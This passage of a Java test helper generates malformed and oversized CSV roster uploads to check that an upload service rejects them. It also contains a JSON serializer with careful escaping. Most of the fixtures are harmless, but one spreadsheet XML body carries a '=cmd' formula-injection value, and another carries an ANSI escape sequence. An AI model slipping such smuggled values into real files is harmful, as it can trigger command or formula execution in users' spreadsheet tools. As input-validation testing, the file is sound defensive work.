        out.writeBytes(bad);
        out.writeBytes((",,2027-06-30\n" + good).getBytes(StandardCharsets.UTF_8));
        yield rosterInvalid(index, "not UTF-8", "text/csv", out.toByteArray());
      }
      case 3 -> rosterInvalid(index, "binary", "text/csv", pick(List.of(
          (header + "HX1,Ann\u0000,,2027-01-01\n" + good).getBytes(StandardCharsets.UTF_8),
          new byte[] {'P', 'K', 3, 4, 20, 0, 6, 0}, (header + "\u001B[31m,red,,2027-01-01\n").getBytes(StandardCharsets.UTF_8))));
      case 4 -> rosterInvalid(index, "a quote never closed", "text/csv",
          (header + good + "HX" + unique().toUpperCase() + ",\"Ann,,2027-06-30\n").getBytes(StandardCharsets.UTF_8));
      case 5 -> rosterInvalid(index, "wrong content type", pick(List.of("application/json", "text/plain",
          "application/x-www-form-urlencoded", "application/vnd.ms-excel")), (header + good).getBytes(StandardCharsets.UTF_8));
      case 6 -> rosterInvalid(index, "JSON instead of CSV", "text/csv",
          "[{\"member_id\": \"M1\"}]".getBytes(StandardCharsets.UTF_8));
      case 7 -> rosterInvalid(index, "blank", "text/csv", pick(List.of("\n\n", "   ", "\uFEFF", ",,,\n")).getBytes(
          StandardCharsets.UTF_8));
      case 8 -> {
        // about 1 MB of good lines
        StringBuilder csv = new StringBuilder(header);
        List<Member> members = new ArrayList<>();
        while (csv.length() < 1_000_000) {
          String id = "HX" + unique().toUpperCase();
          members.add(new Member(id, "Member " + id, null, "2028-01-31"));
          csv.append(id).append(",Member ").append(id).append(",,2028-01-31\n");
        }
        Map<String, Object> sent = new LinkedHashMap<>();
        sent.put("members", members);
        sent.put("rejected", Map.of());
        yield new Hostile(index, "1 MB of good lines", "text/csv", csv.toString().getBytes(StandardCharsets.UTF_8), true,
            List.of(), sent);
      }
      case 9 -> rosterInvalid(index, "1 MB of one field", "text/csv",
          (header + "HX" + unique().toUpperCase() + ",\"" + "A".repeat(1_000_000)).getBytes(StandardCharsets.UTF_8));
      default -> rosterInvalid(index, "spreadsheet XML", "text/csv",
          "<?xml version=\"1.0\"?><Workbook><Row><Cell>=cmd</Cell></Row></Workbook>".getBytes(StandardCharsets.UTF_8));
    };
  }

  private static Hostile rosterInvalid(int index, String kind, String contentType, byte[] body) {
    return new Hostile(index, kind, contentType, body, false, List.of("body"), null);
  }

  // --- JSON writing ------------------------------------------------------------------------------

  /** Writes a value as JSON; every control character and surrogate is escaped, so any String can be sent. */
  public static String json(Object value) {
    StringBuilder out = new StringBuilder();
    write(out, value);
    return out.toString();
  }

  private static void write(StringBuilder out, Object value) {
    if (value == null) {
      out.append("null");
    } else if (value instanceof Raw raw) {
      out.append(raw.json());
    } else if (value instanceof String s) {
      out.append('"');
      for (int i = 0; i < s.length(); i++) {
        char c = s.charAt(i);
        switch (c) {
          case '"' -> out.append("\\\"");
          case '\\' -> out.append("\\\\");
          case '\n' -> out.append("\\n");
          case '\r' -> out.append("\\r");
          case '\t' -> out.append("\\t");
          default -> {
            if (c < 0x20 || c == 0x7F || Character.isSurrogate(c) && !pairAt(s, i) || c == '\uFFFE' || c == '\uFFFF') {
              out.append(String.format("\\u%04x", (int) c));
            } else {
              out.append(c);
            }
          }
        }
      }
      out.append('"');
    } else if (value instanceof Map<?, ?> map) {
      out.append('{');
      boolean first = true;
      for (Map.Entry<?, ?> e : map.entrySet()) {
        if (!first) {
          out.append(',');
        }
        first = false;
        write(out, String.valueOf(e.getKey()));
        out.append(':');
        write(out, e.getValue());
      }
      out.append('}');
    } else if (value instanceof List<?> list) {
      out.append('[');
      for (int i = 0; i < list.size(); i++) {
        if (i > 0) {
          out.append(',');
        }
        write(out, list.get(i));
      }
      out.append(']');
    } else {
      out.append(value);
    }
  }

  private static boolean pairAt(String s, int i) {
    char c = s.charAt(i);
    return Character.isHighSurrogate(c) ? i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))
        : i > 0 && Character.isHighSurrogate(s.charAt(i - 1));
  }

  /** Applies {@code f} to each generated body, {@code count} times. */
  public static <T> List<T> times(int count, Function<Integer, T> f) {
    List<T> out = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      out.add(f.apply(i));
    }
    return out;
  }
}
